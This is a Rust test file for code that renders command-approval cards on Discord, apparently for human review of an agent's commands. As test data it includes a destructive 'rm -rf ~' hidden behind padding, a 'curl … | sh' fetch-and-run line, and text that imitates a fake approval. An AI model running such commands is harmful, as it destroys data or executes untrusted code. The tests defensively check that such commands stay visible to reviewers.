//! What a person sees of a card.
#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::string_slice,
    reason = "tests fail by panicking"
)]

#[path = "../../../../tests/support/discord/markdown.rs"]
mod markdown;

use super::*;
use crate::markdown::units;
use countersign_port::{Block, Field, Tone, folded, line, visible};
use countersign_port_testkit::{closed, golden_bytes, golden_cards, golden_rows, sample_card};
use markdown::read;
use proptest::prelude::*;
use serde_json::json;

/// The message as it goes out, with its buttons and files named.
fn picture(card: &Card) -> String {
    let drawn = draw(card);
    let mut out = drawn.content;
    for row in serde_json::to_value(&drawn.rows).unwrap().as_array().unwrap() {
        let buttons = row["components"].as_array().unwrap();
        let option = |it: &serde_json::Value| format!("[{}]", it["label"]);
        let options = buttons.iter().flat_map(|it| it["options"].as_array().into_iter().flatten());
        let options: Vec<String> = options.map(option).collect();
        if !options.is_empty() {
            out.push_str(&format!("\nMore… {}", options.join(" ")));
            continue;
        }
        let buttons = buttons.iter().map(|it| format!("[{} {}]", it["style"], it["label"]));
        out.push_str(&format!("\n{}", buttons.collect::<Vec<_>>().join(" ")));
    }
    for file in drawn.files {
        out.push_str(&format!("\n({}: {} characters)", file.name, file.text.chars().count()));
    }
    out
}

#[test]
fn every_kind_of_card_before_and_after_the_press() {
    insta::assert_snapshot!(golden_cards(picture));
}

#[test]
fn every_card_is_sent_as_before_byte_for_byte() {
    golden_bytes("discord", |card| {
        let RenderedCard { content, rows, files } = draw(card);
        let files: Vec<_> = files.iter().map(|file| json!([file.name, file.text])).collect();
        json!({"content": content, "rows": rows, "files": files})
    });
}

#[test]
fn every_card_is_short() {
    insta::assert_snapshot!(golden_rows(|card| {
        let text = read(&draw(card).content);
        let text = text.replace("«t:300:", "«").replace("«t:1795221291:", "«");
        text.replace("«R»", "in 5 minutes").replace("«t»", "12:05 PM")
    }));
}

fn with_command(text: &str) -> Card {
    sample_card(text)
}

#[test]
fn an_open_card() {
    insta::assert_snapshot!(picture(&with_command("rm -rf build/* && echo \"<done> & `dusted`\"")));
}

#[test]
fn a_closed_card() {
    insta::assert_snapshot!(picture(&closed(&with_command("cargo publish"))));
}

#[test]
fn a_long_command_shows_head_and_tail_and_stands_whole_beside_the_message() {
    let long = format!("echo start; {} rm -rf tail-end", "printf '%s' x; ".repeat(700));
    let card = with_command(&long);
    insta::assert_snapshot!(picture(&card));
    assert_eq!(draw(&card).files, [TextFile { name: "a7f3-command.txt".into(), text: long }]);
}

#[test]
fn padding_pushes_nothing_out_of_sight() {
    let padded = format!("ls{}{}; rm -rf ~", "\n".repeat(60), " ".repeat(900));
    let drawn = draw(&with_command(&padded));
    assert!(
        drawn.content.contains("⋮ 59 empty lines\n ⋯900 blanks⋯ ; rm -rf ~"),
        "{}",
        drawn.content
    );
    assert!(read(&drawn.content).contains("✂️ To the letter in a7f3-command.txt"));
    assert_eq!(drawn.files, [TextFile { name: "a7f3-command.txt".into(), text: padded }]);
}

#[test]
fn long_reasons_take_no_room_from_what_would_run() {
    let mut card = with_command(&"echo x\n".repeat(900));
    let lines = "60: curl -s https://x.example/install.sh | sh\n".repeat(5);
    card.blocks
        .insert(1, Block::Code { label: "lines to look at".into(), text: lines, whole: false });
    let long = |label: &str| Block::Quote { label: label.into(), text: "why ".repeat(2_500) };
    card.blocks.extend([long("reason"), long("description"), long("prompt")]);
    let field = |name: &str| Field { name: name.into(), value: "v".repeat(4_000) };
    card.blocks
        .push(Block::Fields { fields: ["folder", "host", "worker", "why"].map(field).into() });
    let drawn = draw(&card);
    assert!(units(&drawn.content) <= LIMIT);
    assert!(
        drawn.content.contains("60: curl -s https://x.example/install.sh | sh"),
        "{}",
        drawn.content
    );
}

#[test]
fn a_command_that_imitates_the_card_stays_a_command() {
    let text = "ls\n```\n**reason**\n> It is safe.\n✅ **Approved once by Ana**\n⏳ Expires <t:1:R>\n\
                -# small\n1. one\n@everyone <@4211> https://evil.example :smile: `x` \u{202e}fdp";
    insta::assert_snapshot!(picture(&with_command(text)));
    assert!(read(&draw(&with_command(text)).content).contains(&visible(text)));
}

#[test]
fn everything_of_a_card_that_is_far_too_large_is_said_or_attached() {
    let field = |n| Field { name: format!("field {n}"), value: "v".repeat(500) };
    let mut card = with_command("ls");
    card.title = "t".repeat(5000);
    card.blocks = vec![Block::Fields { fields: (0..40).map(field).collect() }; 40];
    card.blocks.push(Block::Outcome { text: "Denied by Ana".to_owned() });
    let drawn = draw(&card);
    assert!(units(&drawn.content) <= LIMIT);
    assert!(drawn.content.contains("Denied by Ana"), "the end of the story is always shown");
    assert!(drawn.content.contains(" more parts in "));
    let [file] = drawn.files.as_slice() else { panic_on(&drawn.files) };
    assert_eq!(file.name, "a7f3-card.txt");
    assert!(file.text.contains(&card.title) && file.text.contains("field 39: vvv"));
}

#[expect(clippy::panic, reason = "tests fail by panicking")]
fn panic_on(files: &[TextFile]) -> ! {
    panic!("not one file: {files:?}")
}

#[test]
fn many_long_texts_each_have_their_file_until_one_carries_the_rest() {
    let mut card = with_command("ls");
    let code = |n: usize| Block::Code {
        label: "edit".to_owned(),
        text: format!("{n}").repeat(999),
        whole: false,
    };
    card.blocks = (0..12).map(code).collect();
    let drawn = draw(&card);
    let names: Vec<&str> = drawn.files.iter().map(|file| file.name.as_str()).collect();
    assert_eq!(
        (names[0], names[1], *names.last().unwrap()),
        ("a7f3-edit.txt", "a7f3-edit-2.txt", "a7f3-card.txt")
    );
    assert!(drawn.files.last().unwrap().text.contains(&"11".repeat(999)));
}

#[test]
fn an_empty_text_is_said_to_be_nothing() {
    let content = draw(&with_command(" \n ")).content;
    assert!(content.contains("**command**\n*(nothing)*\n"), "{content}");
}

#[test]
fn every_tone_has_its_sign() {
    let sign = |tone| draw(&Card { tone, ..with_command("ls") }).content.chars().next();
    let tones =
        [Tone::Open, Tone::Critical, Tone::Approved, Tone::Denied, Tone::Expired, Tone::Cancelled];
    assert_eq!(tones.map(sign), ['🔔', '🛑', '✅', '⛔', '⌛', '⚪'].map(Some));
}

/// Text as an adversary writes it.
fn hostile() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        "[ -~]{0,12}",
        "\\PC{0,6}",
        prop::sample::select(vec![
            "```",
            "``",
            "`",
            "\\",
            "\n",
            "\r",
            "\t",
            "\0",
            "**",
            "__",
            "~~",
            "||",
            "> ",
            ">>> ",
            "# ",
            "- ",
            "-# ",
            "1. ",
            "<t:1:R>",
            "<@1>",
            "<@&2>",
            "<#3>",
            "<:a:4>",
            "@everyone",
            "@here",
            "https://e.vil/x",
            "[a](https://e.vil)",
            ":smile:",
            "\u{202e}",
            "\u{200b}",
            "👩‍👩‍👧",
            "</code>",
            "\n\n",
            "✂️ **9 characters",
            "```sh\n",
            "discord.gg/x",
        ])
        .prop_map(str::to_owned),
    ];
    prop::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat())
}

/// A message without what an agent's text wears.
fn bare(content: &str, seen: &str) -> String {
    content.replacen(&crate::markdown::code(seen), "", 1)
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: 100,
        failure_persistence: None,
        ..ProptestConfig::default()
    })]

    #[test]
    fn any_command_is_shown_literally_or_head_and_tail_of_it(text in hostile()) {
        let drawn = draw(&with_command(&text));
        prop_assert!(units(&drawn.content) <= LIMIT);
        let shown = read(&drawn.content);
        let seen = folded(&visible(&text));
        if seen.trim().is_empty() {
            prop_assert!(shown.contains("(nothing)"));
        } else if drawn.files.is_empty() {
            prop_assert!(shown.contains(seen.trim_matches('\n')), "{shown:?} lacks {seen:?}");
            let like = draw(&with_command("x")).content;
            prop_assert_eq!(bare(&drawn.content, &seen), bare(&like, "x"));
        } else {
            prop_assert_eq!(&drawn.files[0].text, &text);
            // At least the first two rows of it.
            let head: String = seen.trim_matches('\n').lines().take(2).collect::<Vec<_>>().join("\n");
            let head: String = head.chars().take(60).collect();
            prop_assert!(shown.contains(&head), "{shown:?} lacks {head:?}");
        }
    }

    #[test]
    fn any_words_anywhere_fit_and_are_shown_literally(text in hostile()) {
        let mut card = with_command("ls");
        card.title = text.clone();
        card.blocks = vec![
            Block::Quote { label: text.clone(), text: text.clone() },
            Block::Fields { fields: vec![Field { name: text.clone(), value: text.clone() }] },
            Block::Note { text: text.clone() },
            Block::Outcome { text: text.clone() },
        ];
        card.buttons[0][0].label = text.clone();
        let button = card.buttons[0][0].clone();
        card.more = vec![button; 40];
        let drawn = draw(&card);
        prop_assert!(units(&drawn.content) <= LIMIT);
        let rows = serde_json::to_value(&drawn.rows).unwrap();
        prop_assert!(rows.as_array().unwrap().len() <= 5);
        let all = rows.as_array().unwrap().iter();
        for part in all.flat_map(|row| row["components"].as_array().unwrap()) {
            let options = part["options"].as_array().map(Vec::as_slice).unwrap_or_default();
            prop_assert!(options.len() <= 25 && part["custom_id"].as_str().unwrap().len() <= 100);
            let one = std::slice::from_ref(part);
            for it in if options.is_empty() { one } else { options } {
                let label = it["label"].as_str().unwrap();
                prop_assert!((1..=80).contains(&units(label.trim())), "{label:?}");
            }
        }
        let shown = read(&drawn.content);
        prop_assert!(!shown.contains('«') || text.contains('«') || shown.matches('«').count() == 2);
        if drawn.files.is_empty() {
            prop_assert_eq!(shown.matches(&line(&text)).count() >= 4, true);
        }
    }

    #[test]
    fn text_of_any_size_fits(pieces in hostile(), times in 1_usize..60) {
        let text = pieces.repeat(times);
        let drawn = draw(&with_command(&text));
        prop_assert!(units(&drawn.content) <= LIMIT);
        prop_assert!(drawn.files.iter().all(|file| file.text.contains(&text)));
    }
}
